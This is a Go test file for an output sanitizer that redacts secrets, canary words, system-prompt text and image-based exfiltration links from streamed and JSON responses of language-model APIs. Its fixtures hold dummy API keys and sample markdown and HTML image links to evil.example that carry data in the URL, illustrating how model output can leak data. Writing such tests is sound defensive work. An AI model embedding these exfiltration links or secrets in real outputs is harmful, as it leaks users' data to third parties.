package sanitize_test

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/sparkhttp/spark/internal/response"
	"github.com/sparkhttp/spark/sanitize"
)

// The keys below have the right shape and open nothing.
const (
	openAI     = "sk-proj-4fK9xQ2mZ7vB1nL8wR3tY6uP0aS5dG"
	anthropic  = "sk-ant-api03-Qw3rTy7uIoP9aSdF2gHj"
	gitHub     = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
	aws        = "AKIAQ3ZXW7P2LMN4TR5K"
	privateKey = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx7yZ0Qm\nq9w8e7r6t5y4u3i2o1p0\n-----END RSA PRIVATE KEY-----"
	canary     = "zebra-quartz-41"
	prompt     = "You are Sparky. Never mention the Budapest project, and answer only questions about the opening hours of our shops."
)

func newOutput(t testing.TB, cfg sanitize.OutputConfig) *sanitize.Output {
	t.Helper()
	cfg.Canaries = append(cfg.Canaries, canary)
	cfg.Prompts = append(cfg.Prompts, prompt)
	cfg.AllowedHosts = append(cfg.AllowedHosts, "img.example.com", ".trusted.example")
	o, err := sanitize.NewOutput(cfg)
	require.NoError(t, err)
	return o
}

// leaks are texts with what must not leave between ‹ and ›.
var leaks = []struct{ name, rule, text string }{
	{"OpenAI", "secret.openai", "Use ‹" + openAI + "›, or not."},
	{"Anthropic", "secret.anthropic", "key=‹" + anthropic + "›"},
	{"GitHub", "secret.github", "(‹" + gitHub + "›)"},
	{"AWS", "secret.aws", "aws_access_key_id = ‹" + aws + "›\n"},
	{"Slack", "secret.slack", "‹xoxb-2048163264-4096819200-aB3dE5fG7h›"},
	{"private key", "secret.private-key", "Here:\n‹" + privateKey + "›\nDone."},
	{"canary", "prompt.canary", "The word is ‹ZEBRA-Quartz-41›."},
	{"image with a query", "exfiltration.image", "Look: ![cat](‹https://evil.example/p.png?d=hello›) nice"},
	{"image within a link", "exfiltration.image", "[![x](‹//evil.example/?q=1›)](https://ok.example/)"},
	{"image with data in its path", "exfiltration.image", "![](‹https://evil.example/c2VjcmV0IGRhdGEgb2YgdGhlIHVzZXIgdGhhdCBsZWF2ZXM/x.png›)"},
	{"image in angle brackets", "exfiltration.image", "![a](<‹http://evil.example/?x=y›>)"},
	{"user info before the host", "exfiltration.image", "![a](‹https://img.example.com@evil.example/?x=y›)"},
	{"image of HTML", "exfiltration.image", `<img alt="" SRC="‹https://evil.example/a?b=c›">`},
	{"definition", "exfiltration.image", "![a][1]\n\n[1]: ‹https://evil.example/a?b=c›\n"},
	{"link with much data", "exfiltration.link", "[click](‹https://evil.example/?q=aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ›)"},
}

// harmless are texts that resemble them.
var harmless = []string{
	"", "A", "sk", "task-force-of-the-risk-management-department-of-1999", "Set OPENAI_API_KEY=sk-xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
	"Keys begin with sk-proj- or sk-ant-, tokens with ghp_ and AKIA.", "A file begins with -----BEGIN PRIVATE KEY----- and has more lines.",
	"-----BEGIN CERTIFICATE-----\nMIIEowIBAAKCAQEAx7yZ0Qm\n-----END CERTIFICATE-----", "-----BEGIN ",
	"![cat](https://evil.example/cat.png)", "![cat](https://img.example.com/cat.png?w=100)", "![a](https://cdn.trusted.example/?a=b)", "![a](/local?x=y)",
	"[docs](https://go.dev/doc?x=y#z)", "f(x)[0](https", "![", "![]", "![](", "![](h", "src=", "a ? b : c",
	"zebra-quartz-4", "Never mention the war.", "You are Sparky. Never mention it.", "opening hours of our shops",
	"https://evil.example/?bare=link&is=not&fetched=by&anybody=at&all=ok",
}

func unmark(text string) (plain, masked string) {
	before, rest, _ := strings.Cut(text, "‹")
	secret, after, _ := strings.Cut(rest, "›")
	return before + secret + after, before + strings.Repeat("*", len(secret)) + after
}

func TestOutputScan(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{})
	for _, tt := range leaks {
		t.Run(tt.name, func(t *testing.T) {
			plain, masked := unmark(tt.text)
			got, found := o.Scan(plain)
			require.Equal(t, masked, got)
			require.Len(t, found, 1)
			require.Equal(t, tt.rule, found[0].Rule)
			require.EqualValues(t, strings.Index(masked, "*"), found[0].Offset)
			require.Positive(t, found[0].Length)
		})
	}
	for _, text := range harmless {
		got, found := o.Scan(text)
		require.Equal(t, text, got)
		require.Nil(t, found, text)
	}
}

func TestOutputPrompt(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{})
	tests := []struct{ name, text, first, last string }{
		{"as it is", "Sure: " + prompt + " Bye.", "mention", "shops"},
		{"a part of it", "I may not speak of: the Budapest project, and answer only questions about cats.", "project", "questions"},
		{"in upper case, in lines", strings.ToUpper(strings.ReplaceAll(prompt, " ", "\n- ")), "MENTION", "SHOPS"},
		{"twice", prompt + "\n\n" + prompt, "mention", "shops"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, found := o.Scan(tt.text)
			require.NotEmpty(t, found)
			require.Equal(t, "prompt.text", found[0].Rule)
			require.Len(t, got, len(tt.text))
			require.NotContains(t, got, tt.first)
			require.NotContains(t, got, tt.last)
			require.Equal(t, tt.text[len(tt.text)-4:] == "Bye.", strings.HasSuffix(got, "Bye."))
		})
	}
}

// answer serves what write writes through o.
func answer(t *testing.T, o *sanitize.Output, contentType string, write func(w http.ResponseWriter)) *httptest.ResponseRecorder {
	t.Helper()
	rec := httptest.NewRecorder()
	o.Handler(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		if contentType != "" {
			w.Header().Set("Content-Type", contentType)
		}
		write(w)
	})).ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/", nil))
	return rec
}

func put(t *testing.T, w io.Writer, parts ...string) {
	t.Helper()
	for _, p := range parts {
		n, err := io.WriteString(w, p)
		require.NoError(t, err)
		require.Equal(t, len(p), n)
	}
}

// TestOutputAcrossWrites cuts every leak at every place.
func TestOutputAcrossWrites(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{})
	for _, tt := range leaks {
		plain, masked := unmark(tt.text)
		for size := 1; size <= len(plain); size++ {
			rec := answer(t, o, "text/plain; charset=utf-8", func(w http.ResponseWriter) {
				for rest := plain; rest != ""; {
					n := min(size, len(rest))
					put(t, w, rest[:n])
					rest = rest[n:]
				}
			})
			require.Equal(t, masked, rec.Body.String(), "%s in pieces of %d", tt.name, size)
		}
	}
}

// events writes text as a stream of tokens, in the wire format of kind.
func events(kind, text string, size int) []string {
	var out []string
	for rest := text; rest != ""; {
		n := min(size, len(rest))
		token, _ := json.Marshal(rest[:n])
		rest = rest[n:]
		switch kind {
		case "openai":
			out = append(out, fmt.Sprintf("data: {\"id\":\"c-1\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{\"content\":%s},\"finish_reason\":null}]}\n\n", token))
		case "responses":
			out = append(out, fmt.Sprintf("event: response.output_text.delta\r\ndata: {\"type\":\"response.output_text.delta\",\"obfuscation\":\"x9\",\"delta\":%s}\r\n\r\n", token))
		case "anthropic":
			out = append(out, fmt.Sprintf("event: content_block_delta\ndata: {\"type\":\"content_block_delta\",\"index\":0,\"delta\":{\"type\":\"text_delta\",\"text\" : %s}}\n\n", token))
		case "plain":
			out = append(out, "data: "+string(token[1:len(token)-1])+"\n\n")
		}
	}
	return out
}

// TestOutputAcrossEvents does it in streams of tokens.
func TestOutputAcrossEvents(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{})
	for _, kind := range []string{"openai", "responses", "anthropic", "plain"} {
		for _, tt := range leaks {
			plain, masked := unmark(tt.text)
			if kind == "plain" && strings.ContainsAny(plain, "\n\"<>") {
				continue // can't be split without escapes
			}
			for _, size := range []int{1, 2, 3, 7, 19, 1000} {
				in := events(kind, plain, size)
				rec := answer(t, o, "text/event-stream", func(w http.ResponseWriter) { put(t, w, in...) })
				want := events(kind, masked, size)
				require.Len(t, rec.Body.String(), len(strings.Join(in, "")), "%s: the framing stays", tt.name)
				if !strings.ContainsAny(plain, "\n\"<>&") { // whose escapes are longer
					require.Equal(t, strings.Join(want, ""), rec.Body.String(), "%s in tokens of %d", tt.name, size)
				}
				require.NotContains(t, text(t, rec.Body.String()), strings.Trim(tt.text[strings.Index(tt.text, "‹"):strings.Index(tt.text, "›")], "‹"))
			}
		}
	}
}

// text returns what the events of a stream say together.
func text(t *testing.T, stream string) string {
	t.Helper()
	var all strings.Builder
	for line := range strings.SplitSeq(strings.ReplaceAll(stream, "\r", ""), "\n") {
		data, ok := strings.CutPrefix(line, "data: ")
		if !ok {
			continue
		}
		var v struct {
			Delta   any
			Choices []struct{ Delta struct{ Content string } }
		}
		if json.Unmarshal([]byte(data), &v) != nil {
			all.WriteString(data)
			continue
		}
		switch d := v.Delta.(type) {
		case string:
			all.WriteString(d)
		case map[string]any:
			s, _ := d["text"].(string)
			all.WriteString(s)
		default:
			all.WriteString(v.Choices[0].Delta.Content)
		}
	}
	return all.String()
}

func TestOutputOfJSON(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{})
	for _, tt := range leaks {
		plain, _ := unmark(tt.text)
		body, err := json.Marshal(map[string]any{"id": 7, "text": plain, "more": []string{"sk-", "proj-"}, "z": "\U0001F600\u2028é"})
		require.NoError(t, err)
		for size := 1; size < len(body); size += 3 {
			rec := answer(t, o, "application/json", func(w http.ResponseWriter) {
				w.Header().Set("Content-Length", fmt.Sprint(len(body)))
				for rest := string(body); rest != ""; {
					n := min(size, len(rest))
					put(t, w, rest[:n])
					rest = rest[n:]
				}
			})
			require.Len(t, rec.Body.Bytes(), len(body), "the promised length holds")
			var got struct {
				Text, Z string
				More    []string
			}
			require.NoError(t, json.Unmarshal(rec.Body.Bytes(), &got), rec.Body.String())
			secret := strings.Trim(tt.text[strings.Index(tt.text, "‹"):strings.Index(tt.text, "›")], "‹")
			require.NotContains(t, got.Text, secret)
			require.Contains(t, got.Text, "****")
			require.Equal(t, []string{"sk-", "proj-"}, got.More, "strings are texts of their own")
			require.Equal(t, "\U0001F600\u2028é", got.Z)
		}
	}
}

func TestOutputEscapes(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{})
	tests := []struct{ name, in, want string }{
		{"escaped letters", `{"a":"\u0073k-proj-` + openAI[8:] + `!"}`, `{"a":"******` + strings.Repeat("*", len(openAI)-1) + `!"}`},
		{"pairs and halves beside it", `{"a":"\ud83d\ude00\ud800\u0041KIA` + aws[4:] + `"}`, `{"a":"\ud83d\ude00\ud800` + strings.Repeat("*", len(aws)+5) + `"}`},
		{"half at the end", `{"a":"\ud800"}`, `{"a":"\ud800"}`},
		{"half before an escape", `{"a":"\ud800\n\ud800x"}`, `{"a":"\ud800\n\ud800x"}`},
		{"cut in an escape", `{"a":"\ud800\u00`, `{"a":"\ud800\u00`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for size := 1; size <= len(tt.in); size++ {
				rec := answer(t, o, "application/json", func(w http.ResponseWriter) {
					for rest := tt.in; rest != ""; {
						n := min(size, len(rest))
						put(t, w, rest[:n])
						rest = rest[n:]
					}
				})
				require.Equal(t, tt.want, rec.Body.String(), size)
			}
		})
	}
}

func TestOutputActions(t *testing.T) {
	tests := []struct {
		name    string
		action  sanitize.Action
		begun   bool
		status  int
		body    string
		aborted bool
		leaks   int
	}{
		{"redact", sanitize.Redact, false, 201, "key " + strings.Repeat("*", len(aws)) + " end", false, 1},
		{"observe", sanitize.Observe, false, 201, "key " + aws + " end", false, 1},
		{"ignore", sanitize.Ignore, false, 201, "key " + aws + " end", false, 0},
		{"abort", sanitize.Abort, false, 502, "withheld", false, 1},
		{"abort in the middle", sanitize.Abort, true, 201, "key ", true, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var seen []sanitize.Leak
			o := newOutput(t, sanitize.OutputConfig{
				Action: func(*http.Request) sanitize.Action { return tt.action },
				OnLeak: func(_ context.Context, l sanitize.Leak) { seen = append(seen, l) },
			})
			var end response.End
			watch := watcher(func(e response.End) { end = e })
			rec := httptest.NewRecorder()
			h := o.Handler(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Type", "text/plain")
				w.WriteHeader(http.StatusCreated)
				w.Header().Set("X-Too-Late", "1")
				if tt.begun {
					put(t, w, "key ", aws[:7])
					require.NoError(t, http.NewResponseController(w).Flush())
					require.Equal(t, "key ", rec.Body.String())
					put(t, w, aws[7:], " end")
					return
				}
				_, err := io.WriteString(w, "key "+aws+" end")
				require.Equal(t, tt.status == 502, err != nil)
			}))
			serve := func() {
				response.Serve(rec, httptest.NewRequest(http.MethodGet, "/", nil), h, watch)
			}
			if tt.aborted {
				require.PanicsWithValue(t, http.ErrAbortHandler, serve)
				require.Equal(t, response.Truncated, end.Kind)
				require.ErrorContains(t, end.Err, "secret.aws")
			} else {
				serve()
			}
			require.Equal(t, tt.status, rec.Code)
			require.Contains(t, rec.Body.String(), tt.body)
			require.Empty(t, rec.Result().Header.Get("X-Too-Late"))
			require.Len(t, seen, tt.leaks)
			for _, l := range seen {
				require.Equal(t, sanitize.Leak{Rule: "secret.aws", Offset: 4, Length: len(aws), Action: tt.action}, l)
			}
		})
	}
}

type watcher func(response.End)

func (f watcher) ResponseEnded(_ *response.Writer, e response.End) { f(e) }

func TestOutputPassesWhatIsNoText(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{})
	for _, h := range []http.Header{
		{"Content-Type": {"image/png"}},
		{"Content-Type": {"text/plain"}, "Content-Encoding": {"gzip"}},
	} {
		rec := answer(t, o, "", func(w http.ResponseWriter) {
			maps.Copy(w.Header(), h)
			put(t, w, aws)
		})
		require.Equal(t, aws, rec.Body.String())
	}
	rec := answer(t, o, "", func(w http.ResponseWriter) { put(t, w, "<html>"+aws) })
	require.Equal(t, "<html>"+strings.Repeat("*", len(aws)), rec.Body.String())
	require.Equal(t, "text/html; charset=utf-8", rec.Header().Get("Content-Type"))
	rec = answer(t, o, "", func(w http.ResponseWriter) { w.WriteHeader(http.StatusNoContent) })
	require.Equal(t, 204, rec.Code)
}

// TestOutputStreams reads each event while the handler waits to be told of it,
// over HTTP/1.1 and HTTP/2.
func TestOutputStreams(t *testing.T) {
	for _, action := range []sanitize.Action{sanitize.Redact, sanitize.Abort, sanitize.Observe} {
		o := newOutput(t, sanitize.OutputConfig{Action: func(*http.Request) sanitize.Action { return action }})
		for _, h2 := range []bool{false, true} {
			read := make(chan struct{})
			srv := httptest.NewUnstartedServer(o.Handler(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
				w.WriteHeader(http.StatusEarlyHints)
				w.Header().Set("Content-Type", "text/event-stream")
				for i, e := range events("anthropic", "You are welcome, task done!", 5) {
					put(t, w, e)
					if i%2 == 0 {
						w.(http.Flusher).Flush()
					} else {
						require.NoError(t, http.NewResponseController(w).Flush())
					}
					<-read
				}
			})))
			srv.EnableHTTP2 = h2
			srv.StartTLS()
			resp, err := srv.Client().Get(srv.URL)
			require.NoError(t, err)
			require.Equal(t, h2, resp.ProtoMajor == 2)
			lines := bufio.NewScanner(resp.Body)
			n := 0
			for lines.Scan() {
				if strings.HasPrefix(lines.Text(), "data: ") {
					n++
					read <- struct{}{}
				}
			}
			require.NoError(t, lines.Err())
			require.Equal(t, 6, n)
			require.NoError(t, resp.Body.Close())
			srv.Close()
		}
	}
}

// TestOutputHoldsLittle feeds what might be the beginning of a leak for ever.
func TestOutputHoldsLittle(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{Prompts: []string{strings.Repeat("abcdefghijklmnopqrstuvwxyz", 1000)}})
	for _, piece := range []string{"![x](https://e.example/", "sk-", "A", "[", "-----BEGIN ", "zebra-", "aaaaaaaaaaaaaaaaaaaaa ", "\\", "![](http://a/?"} {
		var rec *httptest.ResponseRecorder
		total := 0
		rec = answer(t, o, "text/plain", func(w http.ResponseWriter) {
			for range 5000 {
				put(t, w, piece)
				total += len(piece)
			}
			held := total - flushed(w)
			require.Less(t, held, 8<<10, piece)
		})
		require.Equal(t, total, rec.Body.Len())
	}
}

// TestOutputTakesLittleForALongWrite writes a long answer at once.
func TestOutputTakesLittleForALongWrite(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{})
	long := []byte(strings.Repeat("nothing to see here, ", 100_000) + aws)
	var before, after runtime.MemStats
	rec := answer(t, o, "text/plain", func(w http.ResponseWriter) {
		w.(interface{ Unwrap() http.ResponseWriter }).Unwrap().(*httptest.ResponseRecorder).Body.Grow(len(long))
		runtime.ReadMemStats(&before)
		n, err := w.Write(long)
		runtime.ReadMemStats(&after)
		require.NoError(t, err)
		require.Equal(t, len(long), n)
	})
	require.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(len(long)))
	require.True(t, strings.HasSuffix(rec.Body.String(), " "+strings.Repeat("*", len(aws))))
}

// flushed returns how many bytes the recorder behind w has.
func flushed(w http.ResponseWriter) int {
	return w.(interface{ Unwrap() http.ResponseWriter }).Unwrap().(*httptest.ResponseRecorder).Body.Len()
}

func TestOutputWriteErrors(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{})
	gone := errors.New("client is gone")
	h := o.Handler(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		_, err := io.WriteString(w, "hello ")
		require.ErrorIs(t, err, gone)
		_, err = io.WriteString(w, "world ")
		require.ErrorIs(t, err, gone)
	}))
	h.ServeHTTP(&brokenWriter{httptest.NewRecorder(), gone}, httptest.NewRequest(http.MethodGet, "/", nil))
}

type brokenWriter struct {
	*httptest.ResponseRecorder
	err error
}

func (w *brokenWriter) Write([]byte) (int, error) { return 0, w.err }

func TestOutputDisabled(t *testing.T) {
	for _, tt := range leaks {
		o := newOutput(t, sanitize.OutputConfig{Disabled: []string{tt.rule}})
		plain, masked := unmark(tt.text)
		got, _ := o.Scan(plain)
		require.NotEqual(t, masked, got, tt.name)
	}
	o := newOutput(t, sanitize.OutputConfig{Disabled: []string{"prompt.text"}})
	got, _ := o.Scan(prompt)
	require.Equal(t, prompt, got)
}

func TestOutputConfigErrors(t *testing.T) {
	tests := []struct {
		name string
		cfg  sanitize.OutputConfig
		want string
	}{
		{"canary", sanitize.OutputConfig{Canaries: []string{"short"}}, "Canaries holds one of 5 bytes"},
		{"prompt", sanitize.OutputConfig{Prompts: []string{"You are a bot."}}, "Prompts holds one of 10 letters"},
		{"host", sanitize.OutputConfig{AllowedHosts: []string{"https://example.com"}}, "AllowedHosts holds"},
		{"member", sanitize.OutputConfig{Members: []string{strings.Repeat("x", 32)}}, "Members holds a name of 32 bytes"},
		{"rule", sanitize.OutputConfig{Disabled: []string{"secret.nothing"}}, `"secret.nothing"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := sanitize.NewOutput(tt.cfg)
			require.ErrorContains(t, err, "sanitize: ")
			require.ErrorContains(t, err, tt.want)
		})
	}
}

// FuzzOutput shows that it makes no difference how a response is cut into
// writes, that nothing is lost, and that what is found stays found.
func FuzzOutput(f *testing.F) {
	for _, tt := range leaks {
		plain, _ := unmark(tt.text)
		f.Add(plain, uint8(3), uint8(0))
		f.Add(`{"text":"`+plain+`"}`, uint8(5), uint8(1))
		f.Add("data: {\"text\":\"sk-proj-4fK9xQ2mZ\"}\n\ndata: {\"text\":\"7vB1nL8wR3tY6uP0aS5dG\\ud800\"}\r\n\r\n", uint8(7), uint8(2))
	}
	f.Add(prompt+prompt[9:], uint8(1), uint8(0))
	o := newOutput(f, sanitize.OutputConfig{})
	f.Fuzz(func(t *testing.T, body string, size, kind uint8) {
		contentType := []string{"text/plain", "application/json", "text/event-stream"}[kind%3]
		n := 1 + int(size)
		run := func(n int) string {
			return answer(t, o, contentType, func(w http.ResponseWriter) {
				for rest := body; rest != ""; {
					m := min(n, len(rest))
					put(t, w, rest[:m])
					rest = rest[m:]
				}
			}).Body.String()
		}
		whole := run(max(len(body), 1))
		require.Len(t, whole, len(body))
		for i := range whole {
			require.True(t, whole[i] == body[i] || whole[i] == '*')
		}
		require.Equal(t, whole, run(n))
	})
}

// TestOutputEventLines shows what of a stream counts as text.
func TestOutputEventLines(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{Members: []string{"tok"}})
	stars := strings.Repeat("*", len(aws))
	tests := []struct{ name, in, want string }{
		{"lines of one event", "data: AKIAQ3ZXW7\ndata: P2LMN4TR5K\n\n", "data: AKIAQ3ZXW7\ndata: P2LMN4TR5K\n\n"},
		{"lines of one event, CRLF", "data: AKIAQ3ZXW7\r\ndata: P2LMN4TR5K\r\n\r\n", "data: AKIAQ3ZXW7\r\ndata: P2LMN4TR5K\r\n\r\n"},
		{"two events", "data:AKIAQ3ZXW7\n\ndata:P2LMN4TR5K\n\n", "data:**********\n\ndata:**********\n\n"},
		{"two events, CR", "data: AKIAQ3ZXW7\r\rdata: P2LMN4TR5K\r\r", "data: **********\r\rdata: **********\r\r"},
		{"other lines between", "data: AKIAQ3ZXW7\n\nevent: data:x\nid: 7\n: note\n\ndatax: q\ndata: P2LMN4TR5K\n\n", "data: **********\n\nevent: data:x\nid: 7\n: note\n\ndatax: q\ndata: **********\n\n"},
		{"a member of the caller's", `data: {"tok":"AKIAQ3ZXW7","id":"x"}` + "\n\n" + `data: {"id":"y","tok":"P2LMN4TR5K"}` + "\n\n", `data: {"tok":"**********","id":"x"}` + "\n\n" + `data: {"id":"y","tok":"**********"}` + "\n\n"},
		{"other members", `data: {"id":"` + aws + `","content of a member whose name is long":"` + aws + `"}` + "\n\n", `data: {"id":"` + aws + `","content of a member whose name is long":"` + aws + `"}` + "\n\n"},
		{"strings", "data: \"AKIAQ3ZXW7\"\n\ndata: \"P2LMN4TR5K\"\n\ndata: [DONE]\n\n", "data: \"**********\"\n\ndata: \"**********\"\n\ndata: [DONE]\n\n"},
		{"braces in plain text", "data: so\n\ndata: {" + aws + "}\n\n", "data: so\n\ndata: {" + stars + "}\n\n"},
		{"byte order mark", "\ufeffdata: " + aws + "\n\n", "\ufeffdata: " + stars + "\n\n"},
		{"half a byte order mark", "\xef\xbbdata: x\n\ndata: " + aws + "\n\n", "\xef\xbbdata: x\n\ndata: " + stars + "\n\n"},
		{"cut in the middle", "data: {\"text\":\"" + aws, "data: {\"text\":\"" + stars},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for _, size := range []int{1, 2, 5, len(tt.in)} {
				rec := answer(t, o, "text/event-stream; charset=utf-8", func(w http.ResponseWriter) {
					for rest := tt.in; rest != ""; {
						n := min(size, len(rest))
						put(t, w, rest[:n])
						rest = rest[n:]
					}
				})
				require.Equal(t, tt.want, rec.Body.String())
			}
		})
	}
}

// TestOutputHoldsLittleOfAPrompt begins to repeat a prompt and never goes on.
func TestOutputHoldsLittleOfAPrompt(t *testing.T) {
	o := newOutput(t, sanitize.OutputConfig{})
	rec := answer(t, o, "text/plain", func(w http.ResponseWriter) {
		put(t, w, prompt[:30], strings.Repeat(" ", 100_000))
		require.Less(t, 100_030-flushed(w), 8<<10)
		put(t, w, prompt[30:])
	})
	require.Contains(t, rec.Body.String(), prompt[:30], "let go, since it was held for too long")
	require.NotContains(t, rec.Body.String(), prompt[60:])
}

func TestOutputHeaders(t *testing.T) {
	for _, action := range []sanitize.Action{sanitize.Redact, sanitize.Abort} {
		o := newOutput(t, sanitize.OutputConfig{Action: func(*http.Request) sanitize.Action { return action }})
		rec := answer(t, o, "text/event-stream", func(w http.ResponseWriter) {
			w.Header().Set("X-Early", "1")
			require.NoError(t, http.NewResponseController(w).Flush()) // opens the stream
			w.WriteHeader(http.StatusTeapot)                          // too late
			put(t, w, "data: a\n\n")
		})
		require.Equal(t, 200, rec.Code)
		require.Equal(t, "1", rec.Header().Get("X-Early"))
		rec = answer(t, o, "text/plain", func(w http.ResponseWriter) { w.WriteHeader(http.StatusAccepted) })
		require.Equal(t, 202, rec.Code)
		rec = answer(t, o, "text/plain", func(http.ResponseWriter) {})
		require.Equal(t, 200, rec.Code)
	}
	abort := newOutput(t, sanitize.OutputConfig{Action: func(*http.Request) sanitize.Action { return sanitize.Abort }})
	rec := answer(t, abort, "text/plain", func(w http.ResponseWriter) {
		w.Header().Set("Etag", `"x"`)
		_, err := io.WriteString(w, aws)
		require.Error(t, err)
		_, err = io.WriteString(w, "more")
		require.Error(t, err)
		require.Error(t, http.NewResponseController(w).Flush())
	})
	require.Equal(t, 502, rec.Code)
	require.Equal(t, "application/problem+json", rec.Header().Get("Content-Type"))
	require.Empty(t, rec.Header().Get("Etag"))
	require.NotContains(t, rec.Body.String(), "more")
}
